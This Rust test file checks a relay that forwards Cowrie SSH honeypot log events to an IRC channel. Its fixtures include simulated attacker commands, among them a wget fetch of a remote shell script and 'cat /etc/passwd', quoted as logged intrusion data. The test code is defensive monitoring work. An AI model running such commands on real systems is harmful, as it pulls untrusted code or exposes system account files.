//! Honeypot log -> parser -> formatter -> queue -> IRC channel.

use crate::helpers::config::TestConfigBuilder;
use crate::helpers::log_file::*;
use crate::helpers::relay::RunningRelay;

/// Three records already in the log arrive as three messages, in file order.
#[tokio::test]
async fn existing_records_are_relayed_in_order() {
    let log = HoneypotLog::new();
    log.append(&[
        connect_record(),
        login_failed_record("root", "123456"),
        command_record("uname -a"),
    ]);

    let mut relay = RunningRelay::start(TestConfigBuilder::new(log.path()).build());
    let mut session = relay.irc.accept().await;

    assert_eq!(
        session.next_privmsg("#hp").await,
        format!("CONNECTION: New connection from {ATTACKER} (session: {SESSION})")
    );
    assert_eq!(
        session.next_privmsg("#hp").await,
        format!("LOGIN FAILED: {ATTACKER} attempted to login as 'root' with password '123456'")
    );
    assert_eq!(
        session.next_privmsg("#hp").await,
        format!("COMMAND: {ATTACKER} executed 'uname -a' (session: {SESSION})")
    );

    relay.shutdown().await.unwrap();
}

/// Unknown events and malformed lines are consumed without being relayed.
#[tokio::test]
async fn unknown_and_malformed_lines_are_not_relayed() {
    let log = HoneypotLog::new();
    log.append(&[
        unknown_record(),
        "{\"eventid\": \"cowrie.login.fai".to_owned(),
        "plain garbage".to_owned(),
        command_record("id"),
    ]);

    let mut relay = RunningRelay::start(TestConfigBuilder::new(log.path()).build());
    let mut session = relay.irc.accept().await;

    assert_eq!(
        session.next_privmsg("#hp").await,
        format!("COMMAND: {ATTACKER} executed 'id' (session: {SESSION})")
    );

    relay.shutdown().await.unwrap();
}

/// A log file created after startup is read from its first line.
#[tokio::test]
async fn file_appearing_after_start_is_read_from_the_beginning() {
    let log = HoneypotLog::new();
    let mut relay =
        RunningRelay::start(TestConfigBuilder::new(log.path()).start_at("end").build());
    let mut session = relay.irc.accept().await;
    session.wait_for("JOIN #hp").await;

    log.append(&[command_record("wget http://198.51.100.7/x.sh")]);

    assert_eq!(
        session.next_privmsg("#hp").await,
        format!(
            "COMMAND: {ATTACKER} executed 'wget http://198.51.100.7/x.sh' (session: {SESSION})"
        )
    );

    relay.shutdown().await.unwrap();
}

/// Records appended while running keep their order behind earlier ones.
#[tokio::test]
async fn appended_records_follow_existing_ones() {
    let log = HoneypotLog::new();
    log.append(&[command_record("first")]);

    let mut relay = RunningRelay::start(TestConfigBuilder::new(log.path()).build());
    let mut session = relay.irc.accept().await;
    assert!(session.next_privmsg("#hp").await.contains("'first'"));

    log.append(&[command_record("second"), command_record("third")]);
    assert!(session.next_privmsg("#hp").await.contains("'second'"));
    assert!(session.next_privmsg("#hp").await.contains("'third'"));

    relay.shutdown().await.unwrap();
}

/// Legacy text logs are relayed when the text format is selected.
#[tokio::test]
async fn text_log_format_is_relayed() {
    let log = HoneypotLog::new();
    log.append(&[
        "2024-01-15T12:00:00.000000Z [HoneyPotSSHTransport,7,203.0.113.9] CMD: cat /etc/passwd"
            .to_owned(),
    ]);

    let mut relay =
        RunningRelay::start(TestConfigBuilder::new(log.path()).format("text").build());
    let mut session = relay.irc.accept().await;

    assert_eq!(
        session.next_privmsg("#hp").await,
        "COMMAND: 203.0.113.9 executed 'cat /etc/passwd' (session: 7)"
    );

    relay.shutdown().await.unwrap();
}

/// The join announcement goes out before any relayed event.
#[tokio::test]
async fn join_message_precedes_alerts() {
    let log = HoneypotLog::new();
    log.append(&[connect_record()]);

    let mut relay = RunningRelay::start(
        TestConfigBuilder::new(log.path())
            .join_message("HoneyRelay connected.")
            .build(),
    );
    let mut session = relay.irc.accept().await;

    assert_eq!(session.next_privmsg("#hp").await, "HoneyRelay connected.");
    assert!(session.next_privmsg("#hp").await.starts_with("CONNECTION:"));

    relay.shutdown().await.unwrap();
}
